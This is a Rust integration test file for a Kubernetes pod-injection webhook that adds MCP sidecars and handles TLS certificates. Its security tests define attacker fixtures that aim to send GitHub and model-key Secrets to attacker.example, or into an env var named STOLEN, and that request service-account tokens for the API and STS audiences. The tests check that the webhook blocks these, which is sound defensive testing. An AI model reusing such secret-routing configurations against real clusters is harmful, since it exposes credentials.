//! The pod webhook against the real test control plane: the API server calls
//! `spear::operator::webhook::serve` over TLS, and what it stores is what a kubelet would run.
//!
//! Each test owns a namespace labelled `mcp.spear.dev/injection=enabled` plus a label unique to
//! it, and a MutatingWebhookConfiguration selecting that label, so parallel tests never call
//! each other's webhooks. The webhook runs in-process on `127.0.0.1:<free port>` in self-signed
//! mode: its certificate keeper writes the Secret in the test namespace and the `caBundle`, as in
//! a cluster.

use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::process::Stdio;
use std::sync::Arc;
use std::time::{Duration, Instant};

use k8s_openapi::ByteString;
use k8s_openapi::api::admissionregistration::v1::{
    MutatingWebhook, MutatingWebhookConfiguration, RuleWithOperations, WebhookClientConfig,
};
use k8s_openapi::api::core::v1::{Container, EnvVar, Namespace, Pod, Secret};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::LabelSelector;
use kube::api::{Api, DeleteParams, ObjectMeta, Patch, PatchParams, PostParams};
use rmcp::ServiceExt as _;
use rmcp::model::CallToolRequestParams;
use rmcp::transport::StreamableHttpClientTransport;
use rmcp::transport::streamable_http_client::StreamableHttpClientTransportConfig;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use spear::api::api_key::ApiKey;
use spear::api::keys::{
    AGENT_CONTAINER, ANNOTATION_INJECT, ANNOTATION_INJECTED, ANNOTATION_PROFILE, BIN_DIR, ENV_API_KEY, ENV_GRPC_ADDR,
    ENV_MCP_URL, ENV_SIDECAR_SERVERS, IMAGE_SPEARLET, INIT_CONTAINER, INJECTION_ENABLED, LABEL_INJECTION, RUN_DIR,
    SIDECAR_PREFIX,
};
use spear::api::secret_grant::{ANNOTATION_ALLOWED_PROFILES, ANNOTATION_ALLOWED_SERVERS, SecretGrants};
use spear::api::{HttpAuth, McpProfile, McpServer, ServiceAccountTokenAuth};
use spear::operator::inject::{self, Decision, InjectConfig, Ports, SIDECAR_TMP};
use spear::operator::webhook::certs::{self, CertResolver, CertSource, SECRET_CA_CERT, SECRET_TLS_CERT, SelfSigned};
use spear::operator::webhook::client_auth::ClientAuth;
use spear::operator::webhook::rate_limit::RateLimit;
use spear::operator::webhook::{self, MUTATE_PATH, NativeSidecars, WebhookConfig, WebhookMetrics};
use spear::testing::control_plane::{ControlPlane, TestNamespace, WEBHOOK_CLIENT_NAME};
use spear::testing::mcp_servers::{self, free_port};
use tokio::task::JoinHandle;
use tokio_util::sync::CancellationToken;

const IMAGE: &str = "ghcr.io/spear-mcp/spearlet:test";
/// Label that ties a test namespace to the test's own webhook configuration.
const LABEL_TEST_WEBHOOK: &str = "spear.test/webhook";
/// The webhook Service name the certificate is issued for (plus 127.0.0.1 and localhost).
const SERVICE: &str = "spear-operator-webhook";
/// The API server picks up a new or changed webhook configuration within milliseconds; a busy
/// 2-core box gets 30 s.
const READY_TIMEOUT: Duration = Duration::from_secs(30);
/// A profile name no test creates: pods naming it are denied once the webhook is live.
const PROBE_PROFILE: &str = "spear-test-readiness-probe";

fn labels(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
}

fn inject_config() -> InjectConfig {
    InjectConfig::new(IMAGE, IMAGE)
}

// === the webhook under test ===

/// An in-process webhook registered for one namespace; stopped (and unregistered) on drop.
struct Webhook {
    configuration: String,
    shutdown: CancellationToken,
    task: Option<JoinHandle<Result<(), webhook::WebhookError>>>,
    client: kube::Client,
}

impl Webhook {
    /// Labels `ns` for injection, registers a configuration for it (without a caBundle), starts
    /// the webhook in self-signed mode and waits until the API server calls it.
    async fn start(ns: &TestNamespace, inject: InjectConfig) -> Webhook {
        Webhook::start_with(ns, inject, |_| {}).await.0
    }

    /// [`Webhook::start`] with the config changed by `configure` first; also returns the port.
    async fn start_with(
        ns: &TestNamespace,
        inject: InjectConfig,
        configure: impl FnOnce(&mut WebhookConfig),
    ) -> (Webhook, u16) {
        let configuration = format!("spear-test-{}", ns.name);
        let port = free_port();
        let namespaces: Api<Namespace> = Api::all(ns.client.clone());
        let patch = serde_json::json!({ "metadata": { "labels": {
            LABEL_INJECTION: INJECTION_ENABLED,
            LABEL_TEST_WEBHOOK: configuration,
        }}});
        namespaces
            .patch(&ns.name, &PatchParams::default(), &Patch::Merge(&patch))
            .await
            .expect("labelling the namespace");
        Api::<MutatingWebhookConfiguration>::all(ns.client.clone())
            .create(&PostParams::default(), &webhook_configuration(&configuration, port))
            .await
            .expect("creating the webhook configuration");

        let mut certs = SelfSigned::new(&ns.name, SERVICE);
        certs.webhook_config_name = Some(configuration.clone());
        certs.extra_sans = vec!["127.0.0.1".into(), "localhost".into()];
        let addr = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
        let mut config = WebhookConfig::new(addr, inject, NativeSidecars::Auto, CertSource::SelfSigned(certs));
        configure(&mut config);
        let shutdown = CancellationToken::new();
        let task = tokio::spawn(webhook::serve(ns.client.clone(), config, shutdown.clone()));
        let webhook = Webhook { configuration, shutdown, task: Some(task), client: ns.client.clone() };
        webhook.wait_until_called(ns).await;
        (webhook, port)
    }

    /// Dry-run creates of a pod naming a missing profile until the webhook's own denial comes
    /// back: then the API server has the configuration, trusts the CA and reaches the server.
    async fn wait_until_called(&self, ns: &TestNamespace) {
        let pods = ns.api::<Pod>();
        let probe = app_pod("probe", &[(ANNOTATION_PROFILE, PROBE_PROFILE)]);
        let params = PostParams { dry_run: true, ..PostParams::default() };
        let deadline = Instant::now() + READY_TIMEOUT;
        loop {
            let last = match pods.create(&params, &probe).await {
                Err(kube::Error::Api(status)) if status.message.contains("does not exist") => return,
                Err(e) => e.to_string(),
                Ok(_) => "the probe pod was admitted (the configuration is not in effect yet)".to_string(),
            };
            assert!(
                Instant::now() < deadline,
                "the API server never called the webhook within {READY_TIMEOUT:?}: {last}"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

impl Drop for Webhook {
    fn drop(&mut self) {
        self.shutdown.cancel();
        if let Some(task) = self.task.take() {
            task.abort();
        }
        // Best effort: the configuration only selects this test's namespace anyway.
        let (client, name) = (self.client.clone(), self.configuration.clone());
        if let Ok(runtime) = tokio::runtime::Handle::try_current() {
            runtime.spawn(async move {
                let _ = Api::<MutatingWebhookConfiguration>::all(client).delete(&name, &DeleteParams::default()).await;
            });
        }
    }
}

/// The configuration a chart would install, pointed at a local URL, selecting one namespace.
fn webhook_configuration(name: &str, port: u16) -> MutatingWebhookConfiguration {
    MutatingWebhookConfiguration {
        metadata: ObjectMeta { name: Some(name.to_string()), ..ObjectMeta::default() },
        webhooks: Some(vec![MutatingWebhook {
            name: "pods.mcp.spear.dev".into(),
            admission_review_versions: vec!["v1".into()],
            client_config: WebhookClientConfig {
                url: Some(format!("https://127.0.0.1:{port}{MUTATE_PATH}")),
                ..WebhookClientConfig::default()
            },
            failure_policy: Some("Fail".into()),
            side_effects: "None".into(),
            reinvocation_policy: Some("Never".into()),
            timeout_seconds: Some(10),
            namespace_selector: Some(LabelSelector {
                match_labels: Some(labels(&[(LABEL_INJECTION, INJECTION_ENABLED), (LABEL_TEST_WEBHOOK, name)])),
                ..LabelSelector::default()
            }),
            rules: Some(vec![RuleWithOperations {
                api_groups: Some(vec![String::new()]),
                api_versions: Some(vec!["v1".into()]),
                operations: Some(vec!["CREATE".into()]),
                resources: Some(vec!["pods".into()]),
                scope: Some("Namespaced".into()),
            }]),
            ..MutatingWebhook::default()
        }]),
    }
}

// === fixtures ===

/// A pod with one app container, created with `generateName` (as controllers do, so the
/// review's object has no name and may have no namespace).
fn app_pod(prefix: &str, annotations: &[(&str, &str)]) -> Pod {
    let mut pod = spear::testing::fixtures::app_pod(annotations);
    pod.metadata.generate_name = Some(format!("{prefix}-"));
    pod
}

async fn create<K>(api: &Api<K>, object: &K) -> K
where
    K: kube::Resource + Clone + serde::de::DeserializeOwned + serde::Serialize + std::fmt::Debug,
{
    api.create(&PostParams::default(), object).await.unwrap_or_else(|e| panic!("creating {object:?} failed: {e}"))
}

/// The parts of a stored pod an injection decides (not names, uids or timestamps).
/// The pod's own key the webhook drew (the agent's `SPEAR_API_KEY`).
fn api_key_of(pod: &Pod) -> ApiKey {
    pod.spec
        .iter()
        .flat_map(|s| s.init_containers.iter().flatten().chain(&s.containers))
        .filter(|c| c.name == AGENT_CONTAINER)
        .flat_map(|c| c.env.iter().flatten())
        .find(|e| e.name == ENV_API_KEY)
        .and_then(|e| ApiKey::parse(e.value.as_deref()?).ok())
        .expect("the agent has the pod's API key")
}

fn injected_parts(pod: &Pod) -> (Option<BTreeMap<String, String>>, serde_json::Value) {
    let spec = serde_json::to_value(&pod.spec).expect("a pod spec serializes");
    (pod.metadata.annotations.clone(), spec)
}

// === tests ===

#[tokio::test]
async fn admitted_pod_is_stored_with_exactly_the_injection_mutate_computes() {
    let control_plane = ControlPlane::shared();
    let ns = control_plane.namespace("webhook-inject").await;
    let webhook = Webhook::start(&ns, inject_config()).await;
    let filesystem = |name: &str| {
        let args = ["-y", "@modelcontextprotocol/server-filesystem", "/data"];
        McpServer::test(name).stdio("npx", args).image("node:22-slim").allowing(["*"])
    };
    let servers = [
        filesystem("fs"),
        McpServer::test("fixture").stdio("python", ["fixture_server.py"]).image("python:3.13-slim").allowing(["*"]),
        // The pod's identity as its credential: a projected token for the agent alone (the API
        // server checks the schema's CEL rule on the McpServer and the projection on the pod).
        McpServer::test("remote").http("https://mcp.example.com/mcp").allowing(["*"]).auth(HttpAuth {
            service_account_token: Some(ServiceAccountTokenAuth {
                audience: "https://mcp.example.com".into(),
                expiration_seconds: Some(3600),
            }),
            ..Default::default()
        }),
        // Not in the profile: must not be injected.
        filesystem("other"),
    ];
    for server in &servers {
        create(&ns.api::<McpServer>(), server).await;
    }
    let profile = McpProfile::test("dev")
        .servers(["fs", "fixture", "remote"])
        .granting_tokens(["remote"], ["https://mcp.example.com"]);
    let stored_profile = create(&ns.api::<McpProfile>(), &profile).await;

    let pod = app_pod("app", &[(ANNOTATION_PROFILE, "dev")]);
    let admitted = create(&ns.api::<Pod>(), &pod).await;

    // What the pure mutation computes for the same inputs (native sidecars: the control plane
    // is 1.29 or later), created as is in a namespace without the webhook, so the API server
    // applies the same defaults to both.
    let mut sent = pod.clone();
    sent.metadata.namespace = Some(ns.name.clone());
    let in_profile: Vec<McpServer> = servers[..3].to_vec();
    let enabled = labels(&[(LABEL_INJECTION, INJECTION_ENABLED)]);
    let Decision::Patch { pod: expected, warnings, .. } = inject::mutate(
        &sent,
        &enabled,
        Some(&stored_profile),
        &in_profile,
        &SecretGrants::default(),
        &inject_config(),
        &api_key_of(&admitted),
    )
    .expect("mutate") else {
        panic!("a pod naming an existing profile in an enabled namespace must be patched");
    };
    assert!(warnings.is_empty(), "{warnings:?}");
    let plain = control_plane.namespace("webhook-plain").await;
    let mut expected = *expected;
    expected.metadata.namespace = None;
    let reference = create(&plain.api::<Pod>(), &expected).await;

    assert_eq!(injected_parts(&admitted), injected_parts(&reference));
    let spec = admitted.spec.as_ref().expect("a stored pod has a spec");
    let init: Vec<&str> = spec.init_containers.iter().flatten().map(|c| c.name.as_str()).collect();
    assert_eq!(
        init,
        ["spear-init", "mcp-fixture", "mcp-fs", AGENT_CONTAINER],
        "native sidecars, bridges before the agent"
    );
    let annotations = admitted.metadata.annotations.clone().unwrap_or_default();
    assert!(annotations.contains_key(ANNOTATION_INJECTED), "{annotations:?}");
    let tokens = spec.volumes.iter().flatten().find(|v| v.name == "spear-auth-tokens").expect("the token volume");
    let projected = tokens.projected.as_ref().and_then(|p| p.sources.as_ref()).expect("projected sources");
    let token = projected[0].service_account_token.as_ref().expect("a service-account token");
    assert_eq!((token.audience.as_deref(), token.path.as_str()), (Some("https://mcp.example.com"), "remote"));
    for c in spec.init_containers.iter().flatten().chain(&spec.containers) {
        let mounted = c.volume_mounts.iter().flatten().any(|m| m.name == "spear-auth-tokens");
        assert_eq!(mounted, c.name == AGENT_CONTAINER, "{} and the token volume", c.name);
    }

    // A profile that selects by label gets the labelled server only.
    let mut fixture = ns.api::<McpServer>().get("fixture").await.expect("the fixture server exists");
    fixture.metadata.labels = Some(labels(&[("team", "x")]));
    ns.api::<McpServer>().replace("fixture", &PostParams::default(), &fixture).await.expect("labelling fixture");
    create(&ns.api::<McpProfile>(), &McpProfile::test("selecting").selecting("team", "x")).await;
    let admitted = create(&ns.api::<Pod>(), &app_pod("sel", &[(ANNOTATION_PROFILE, "selecting")])).await;
    let spec = admitted.spec.as_ref().expect("a stored pod has a spec");
    let init: Vec<&str> = spec.init_containers.iter().flatten().map(|c| c.name.as_str()).collect();
    assert_eq!(init, ["spear-init", "mcp-fixture", AGENT_CONTAINER]);
    drop(webhook);
}

/// Issue 13 finding 1: writing an McpServer must not mean reading every Secret of the namespace.
/// The attacker's server names the model key's Secret and another server's Secret; only the
/// references the Secrets allow reach the pod.
#[tokio::test]
async fn a_registry_author_cannot_route_a_secret_not_granted_to_their_server_into_a_pod() {
    let control_plane = ControlPlane::shared();
    let ns = control_plane.namespace("webhook-secrets").await;
    let webhook = Webhook::start(&ns, inject_config()).await;
    let secret = |name: &str, annotations: &[(&str, &str)]| Secret {
        metadata: ObjectMeta {
            name: Some(name.to_string()),
            annotations: Some(labels(annotations)),
            ..ObjectMeta::default()
        },
        string_data: Some(labels(&[("token", "s3cret")])),
        ..Secret::default()
    };
    create(&ns.api::<Secret>(), &secret("github-token", &[(ANNOTATION_ALLOWED_SERVERS, "github")])).await;
    create(&ns.api::<Secret>(), &secret("model-key", &[(ANNOTATION_ALLOWED_PROFILES, "other-profile")])).await;
    let servers = [
        McpServer::test("github").http("https://github.example/mcp").secret_header(
            "Authorization",
            "github-token",
            "token",
        ),
        McpServer::test("exfil")
            .http("https://attacker.example/mcp")
            .secret_header("X-Github", "github-token", "token")
            .secret_header("X-Model", "model-key", "token"),
        McpServer::test("exfil-stdio").stdio("python", ["server.py"]).image("python:3.13-slim").secret_env(
            "STOLEN",
            "github-token",
            "token",
        ),
    ];
    for server in &servers {
        create(&ns.api::<McpServer>(), server).await;
    }
    let profile = McpProfile::test("dev")
        .servers(["github", "exfil", "exfil-stdio"])
        .upstream("https://llm.example/v1")
        .upstream_key("model-key", "token");
    create(&ns.api::<McpProfile>(), &profile).await;

    let admitted = create(&ns.api::<Pod>(), &app_pod("app", &[(ANNOTATION_PROFILE, "dev")])).await;
    let spec = admitted.spec.as_ref().expect("a stored pod has a spec");
    let containers: Vec<&Container> = spec.init_containers.iter().flatten().chain(&spec.containers).collect();
    let secret_refs: Vec<(String, String, String)> = containers
        .iter()
        .flat_map(|c| c.env.iter().flatten().map(move |e| (c.name.clone(), e)))
        .filter_map(|(container, e)| {
            let selector = e.value_from.as_ref()?.secret_key_ref.as_ref()?;
            Some((container, e.name.clone(), selector.name.clone()))
        })
        .collect();
    assert_eq!(
        secret_refs,
        [(AGENT_CONTAINER.to_string(), "SPEAR_SECRET_GITHUB_AUTHORIZATION".to_string(), "github-token".to_string())],
        "only the granted reference is injected"
    );
    drop(webhook);
}

/// Security review N1: writing an McpServer must not mean acting as the workload's
/// ServiceAccount. The attacker's servers ask for a token with the test API server's own audience
/// (its issuer), a cloud STS's, and for the API token in their sidecar; the profile grants tokens
/// to every server for any audience (`*`) but mounts to none. The pod the API server stores has
/// neither the API-audience token nor the STS one, and the sidecar's token path stays masked.
#[tokio::test]
async fn a_registry_author_cannot_obtain_the_pods_service_account_identity_without_a_profile_grant() {
    const API_AUDIENCE: &str = "https://kubernetes.default.svc.cluster.local";
    let control_plane = ControlPlane::shared();
    let ns = control_plane.namespace("webhook-identity").await;
    let webhook = Webhook::start(&ns, inject_config()).await;
    let token = |name: &str, audience: &str| {
        McpServer::test(name).http("https://attacker.example/mcp").allowing(["*"]).auth(HttpAuth {
            service_account_token: Some(ServiceAccountTokenAuth {
                audience: audience.into(),
                expiration_seconds: None,
            }),
            ..Default::default()
        })
    };
    let servers = [
        token("notes", API_AUDIENCE),
        token("cloud", "sts.amazonaws.com"),
        token("tools", "https://tools.example.com"),
        McpServer::test("helper")
            .stdio("python", ["server.py"])
            .image("python:3.13-slim")
            .allowing(["*"])
            .mounting_service_account_token(),
    ];
    for server in &servers {
        create(&ns.api::<McpServer>(), server).await;
    }
    let profile = McpProfile::test("dev").servers(["notes", "cloud", "tools", "helper"]).granting_tokens(["*"], ["*"]);
    create(&ns.api::<McpProfile>(), &profile).await;

    let admitted = create(&ns.api::<Pod>(), &app_pod("app", &[(ANNOTATION_PROFILE, "dev")])).await;
    let spec = admitted.spec.as_ref().expect("a stored pod has a spec");
    let projected: Vec<(String, String)> = spec
        .volumes
        .iter()
        .flatten()
        .filter(|v| v.name == "spear-auth-tokens")
        .flat_map(|v| v.projected.iter().flat_map(|p| p.sources.iter().flatten()))
        .filter_map(|s| s.service_account_token.as_ref())
        .map(|t| (t.audience.clone().unwrap_or_default(), t.path.clone()))
        .collect();
    assert_eq!(
        projected,
        [("https://tools.example.com".to_string(), "tools".to_string())],
        "only the granted audience"
    );
    let helper = spec
        .init_containers
        .iter()
        .flatten()
        .chain(&spec.containers)
        .find(|c| c.name == format!("{SIDECAR_PREFIX}helper"))
        .expect("the helper sidecar");
    let token_path = helper
        .volume_mounts
        .iter()
        .flatten()
        .find(|m| m.mount_path == "/var/run/secrets/kubernetes.io/serviceaccount")
        .expect("something is mounted over the token path");
    assert_eq!(token_path.name, "spear-no-token", "the sidecar gets the empty mask, not the API token");
    drop(webhook);
}

#[tokio::test]
async fn pod_naming_a_missing_profile_is_denied_with_the_reason() {
    let ns = ControlPlane::shared().namespace("webhook-deny").await;
    let _webhook = Webhook::start(&ns, inject_config()).await;

    let error = ns
        .api::<Pod>()
        .create(&PostParams::default(), &app_pod("app", &[(ANNOTATION_PROFILE, "nope")]))
        .await
        .expect_err("a pod naming a missing profile must be denied");
    let kube::Error::Api(status) = error else { panic!("expected an API error, got {error}") };
    assert_eq!(status.code, 403, "{status:?}");
    let expected = format!("McpProfile \"nope\" does not exist in namespace {}", ns.name);
    assert!(status.message.contains(&expected), "{}", status.message);
    assert!(status.message.contains("pods.mcp.spear.dev"), "the message names the webhook: {}", status.message);
}

#[tokio::test]
async fn opted_out_pod_is_left_alone() {
    let ns = ControlPlane::shared().namespace("webhook-optout").await;
    let _webhook = Webhook::start(&ns, inject_config()).await;
    create(&ns.api::<McpServer>(), &McpServer::test("remote").http("https://mcp.example.com/mcp").allowing(["*"]))
        .await;
    create(&ns.api::<McpProfile>(), &McpProfile::test("dev").servers(["remote"])).await;

    let pod = app_pod("app", &[(ANNOTATION_PROFILE, "dev"), (ANNOTATION_INJECT, "false")]);
    let stored = create(&ns.api::<Pod>(), &pod).await;

    let annotations = stored.metadata.annotations.clone().unwrap_or_default();
    assert!(!annotations.contains_key(ANNOTATION_INJECTED), "{annotations:?}");
    let spec = stored.spec.expect("a stored pod has a spec");
    assert!(spec.init_containers.is_none(), "{:?}", spec.init_containers);
    assert_eq!(spec.containers.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), ["app"]);
    assert!(spec.containers[0].env.is_none(), "no SPEAR_* env: {:?}", spec.containers[0].env);
}

#[tokio::test]
async fn ca_bundle_is_written_by_the_cert_keeper_and_replicas_share_the_secret() {
    let ns = ControlPlane::shared().namespace("webhook-ca").await;
    let name = format!("spear-test-{}", ns.name);
    let configurations = Api::<MutatingWebhookConfiguration>::all(ns.client.clone());
    // Selects nothing: only its caBundle is under test.
    let mut configuration = webhook_configuration(&name, free_port());
    if let Some(hook) = configuration.webhooks.iter_mut().flatten().next() {
        hook.namespace_selector = Some(LabelSelector {
            match_labels: Some(labels(&[(LABEL_TEST_WEBHOOK, "none")])),
            ..LabelSelector::default()
        });
    }
    create(&configurations, &configuration).await;

    let mut config = SelfSigned::new(&ns.name, SERVICE);
    config.webhook_config_name = Some(name.clone());
    config.recheck_interval = Duration::from_millis(200);
    let resolver = Arc::new(CertResolver::default());
    let shutdown = CancellationToken::new();
    let keeper =
        certs::start(ns.client.clone(), CertSource::SelfSigned(config.clone()), resolver.clone(), shutdown.clone())
            .await
            .expect("the keeper gets a first certificate");
    assert!(resolver.current().is_some(), "the resolver has the certificate once start returns");

    let secret = ns.api::<Secret>().get(&config.secret_name).await.expect("the keeper created the Secret");
    assert_eq!(secret.type_.as_deref(), Some("kubernetes.io/tls"));
    let data = secret.data.clone().unwrap_or_default();
    let ca = data.get(SECRET_CA_CERT).expect("the Secret holds ca.crt").clone();
    let bundle = |c: &MutatingWebhookConfiguration| {
        c.webhooks.iter().flatten().next().and_then(|w| w.client_config.ca_bundle.clone())
    };
    assert_eq!(bundle(&configurations.get(&name).await.expect("the configuration exists")), Some(ca.clone()));

    // A second replica reads the same Secret and serves the same certificate.
    let (material, _) = certs::reconcile(&ns.client, &config, certs::unix_now()).await.expect("a second replica");
    assert_eq!(material.ca_bundle.as_bytes(), ca.0.as_slice());
    assert_eq!(Some(material.cert.as_bytes()), data.get(SECRET_TLS_CERT).map(|b| b.0.as_slice()));

    // `helm upgrade` resetting the caBundle is undone at the next check.
    let mut reset = configurations.get(&name).await.expect("the configuration exists");
    for hook in reset.webhooks.iter_mut().flatten() {
        hook.client_config.ca_bundle = Some(ByteString(b"stale".to_vec()));
    }
    configurations.replace(&name, &PostParams::default(), &reset).await.expect("resetting the caBundle");
    wait_for("the caBundle to be restored", || async {
        bundle(&configurations.get(&name).await.expect("the configuration exists")) == Some(ca.clone())
    })
    .await;

    shutdown.cancel();
    keeper.await.expect("the keeper stops cleanly");
    configurations.delete(&name, &DeleteParams::default()).await.expect("deleting the configuration");
}

#[tokio::test]
async fn renewed_serving_certificate_is_served_without_a_restart() {
    let ns = ControlPlane::shared().namespace("webhook-rotate").await;
    let mut config = SelfSigned::new(&ns.name, SERVICE);
    config.webhook_config_name = None;
    config.extra_sans = vec!["127.0.0.1".into()];
    config.recheck_interval = Duration::from_millis(200);
    let mut inject = inject_config();
    inject.native_sidecars = true;
    let port = free_port();
    let webhook_config = WebhookConfig::new(
        SocketAddr::from((Ipv4Addr::LOCALHOST, port)),
        inject,
        NativeSidecars::Enabled,
        CertSource::SelfSigned(config.clone()),
    );
    let shutdown = CancellationToken::new();
    let server = tokio::spawn(webhook::serve(ns.client.clone(), webhook_config, shutdown.clone()));
    assert!(mcp_servers::wait_for_http(port, READY_TIMEOUT).await, "the webhook listens");

    let secrets = ns.api::<Secret>();
    let data = secrets.get(&config.secret_name).await.expect("the Secret exists").data.unwrap_or_default();
    let ca = data.get(SECRET_CA_CERT).expect("ca.crt").0.clone();
    let first = served_leaf(port, &ca).await;
    assert_eq!(
        Some(&first),
        CertificateDer::pem_slice_iter(&data[SECRET_TLS_CERT].0).next().and_then(Result::ok).as_ref()
    );

    // An unreadable (or expiring) leaf is replaced at the next check and served at once.
    let garbage = serde_json::json!({ "data": { SECRET_TLS_CERT: ByteString(b"not a certificate".to_vec()) } });
    secrets
        .patch(&config.secret_name, &PatchParams::default(), &Patch::Merge(&garbage))
        .await
        .expect("breaking tls.crt");
    wait_for("a new serving certificate", || async { served_leaf(port, &ca).await != first }).await;

    shutdown.cancel();
    server.await.expect("the server task joins").expect("the server stops cleanly");
}

#[tokio::test]
async fn files_mode_serves_the_files_and_reloads_them_when_they_change() {
    let client = ControlPlane::shared().client().await;
    let dir = tempfile::tempdir().expect("a temp dir");
    let ca = TestCa::new();
    let (first_cert, first_key) = ca.leaf();
    std::fs::write(dir.path().join(certs::SECRET_TLS_CERT), &first_cert).expect("writing tls.crt");
    std::fs::write(dir.path().join(certs::SECRET_TLS_KEY), &first_key).expect("writing tls.key");
    let files = certs::Files { dir: dir.path().to_path_buf(), poll_interval: Duration::from_millis(100) };
    let port = free_port();
    let config = WebhookConfig::new(
        SocketAddr::from((Ipv4Addr::LOCALHOST, port)),
        inject_config(),
        NativeSidecars::Enabled,
        CertSource::Files(files),
    );
    let shutdown = CancellationToken::new();
    let server = tokio::spawn(webhook::serve(client, config, shutdown.clone()));
    assert!(mcp_servers::wait_for_http(port, READY_TIMEOUT).await, "the webhook listens");
    let pem_der = |pem: &str| CertificateDer::from_pem_slice(pem.as_bytes()).expect("a PEM certificate");
    assert_eq!(served_leaf(port, ca.pem.as_bytes()).await, pem_der(&first_cert));

    // cert-manager renews: both files change (a key alone changing first must not break serving).
    let (second_cert, second_key) = ca.leaf();
    std::fs::write(dir.path().join(certs::SECRET_TLS_KEY), &second_key).expect("writing tls.key");
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(served_leaf(port, ca.pem.as_bytes()).await, pem_der(&first_cert), "a mismatched pair is not loaded");
    std::fs::write(dir.path().join(certs::SECRET_TLS_CERT), &second_cert).expect("writing tls.crt");
    wait_for("the new certificate", || async { served_leaf(port, ca.pem.as_bytes()).await == pem_der(&second_cert) })
        .await;

    shutdown.cancel();
    server.await.expect("the server task joins").expect("the server stops cleanly");
}

/// A CA standing in for cert-manager's issuer.
struct TestCa {
    issuer: rcgen::Issuer<'static, rcgen::KeyPair>,
    pem: String,
}

impl TestCa {
    fn new() -> Self {
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).expect("CA params");
        params.distinguished_name.push(rcgen::DnType::CommonName, "test-issuer");
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        let key = rcgen::KeyPair::generate().expect("a CA key");
        let pem = params.self_signed(&key).expect("a CA certificate").pem();
        TestCa { issuer: rcgen::Issuer::new(params, key), pem }
    }

    /// A serving certificate for 127.0.0.1 and its key, as PEM.
    fn leaf(&self) -> (String, String) {
        let params = rcgen::CertificateParams::new(vec!["127.0.0.1".to_string()]).expect("leaf params");
        let key = rcgen::KeyPair::generate().expect("a leaf key");
        (params.signed_by(&key, &self.issuer).expect("a leaf certificate").pem(), key.serialize_pem())
    }
}

/// The leaf certificate the server at `127.0.0.1:port` presents, verified against `ca_pem`.
async fn served_leaf(port: u16, ca_pem: &[u8]) -> CertificateDer<'static> {
    spear::install_crypto_provider();
    let mut roots = rustls::RootCertStore::empty();
    for cert in CertificateDer::pem_slice_iter(ca_pem) {
        roots.add(cert.expect("ca.crt is PEM")).expect("ca.crt holds CA certificates");
    }
    let config = rustls::ClientConfig::builder().with_root_certificates(roots).with_no_client_auth();
    let tcp = tokio::net::TcpStream::connect((Ipv4Addr::LOCALHOST, port)).await.expect("connecting to the webhook");
    let name = ServerName::try_from("127.0.0.1").expect("an IP address is a server name");
    let tls = tokio_rustls::TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await
        .expect("the served certificate verifies against the stored CA");
    tls.get_ref().1.peer_certificates().and_then(|c| c.first()).expect("the server presents a certificate").clone()
}

async fn wait_for<F, Fut>(what: &str, mut done: F)
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = bool>,
{
    let deadline = Instant::now() + READY_TIMEOUT;
    while !done().await {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

// === the injected containers as local processes ===

/// Local stand-ins for the pod's volumes, and the values the kubelet would give the downward API.
struct LocalPod {
    bin: PathBuf,
    run: PathBuf,
    tmp: PathBuf,
    namespace: String,
    name: String,
    kubeconfig: PathBuf,
    /// The values of the Secrets the pod's env refers to: (Secret, key) → value.
    secrets: BTreeMap<(String, String), String>,
}

impl LocalPod {
    /// The stored `pod` run under `dir`, its bin, run and tmp volumes created there.
    fn new(
        dir: &std::path::Path,
        pod: &Pod,
        control_plane: &ControlPlane,
        secrets: BTreeMap<(String, String), String>,
    ) -> Self {
        let local = LocalPod {
            bin: dir.join("bin"),
            run: dir.join("run"),
            tmp: dir.join("tmp"),
            namespace: pod.metadata.namespace.clone().expect("a stored pod has a namespace"),
            name: pod.metadata.name.clone().expect("the API server named the pod"),
            kubeconfig: control_plane.kubeconfig_path().to_path_buf(),
            secrets,
        };
        for d in [&local.bin, &local.run, &local.tmp] {
            std::fs::create_dir(d).expect("creating a volume dir");
        }
        local
    }

    /// A mount path of the pod rewritten to its local directory. The sidecar's `/tmp` is only
    /// rewritten as a whole value (HOME, TMPDIR): paths below it may be the checkout's own (a
    /// clone under /tmp), which the server command needs as they are.
    fn path(&self, value: &str) -> String {
        // The spearlet image's binary is this build's.
        if value == IMAGE_SPEARLET {
            return env!("CARGO_BIN_EXE_spearlet").to_string();
        }
        if value == SIDECAR_TMP {
            return self.tmp.display().to_string();
        }
        let rewrites = [(BIN_DIR, &self.bin), (RUN_DIR, &self.run)];
        for (mount, local) in rewrites {
            if value == mount {
                return local.display().to_string();
            }
            if let Some(rest) = value.strip_prefix(mount).filter(|rest| rest.starts_with('/')) {
                return format!("{}{rest}", local.display());
            }
        }
        value.to_string()
    }

    /// The container's environment as the kubelet resolves it (values, downward API, `$(VAR)`
    /// and `$$`), with mount paths rewritten, plus KUBECONFIG for the out-of-cluster agent.
    fn env(&self, container: &Container) -> Vec<(String, String)> {
        let mut env: Vec<(String, String)> = Vec::new();
        for EnvVar { name, value, value_from } in container.env.iter().flatten() {
            let secret = value_from.as_ref().and_then(|v| v.secret_key_ref.as_ref());
            if let Some(secret) = secret {
                let key = (secret.name.clone(), secret.key.clone());
                let value = self
                    .secrets
                    .get(&key)
                    .unwrap_or_else(|| panic!("{}: env {name} needs Secret {key:?}", container.name));
                env.push((name.clone(), value.clone()));
                continue;
            }
            let value = match (value, value_from.as_ref().and_then(|v| v.field_ref.as_ref())) {
                (Some(value), _) => expand(value, &env),
                (None, Some(field)) if field.field_path == "metadata.namespace" => self.namespace.clone(),
                (None, Some(field)) if field.field_path == "metadata.name" => self.name.clone(),
                // An empty value is stored without `value`; the kubelet sets it empty.
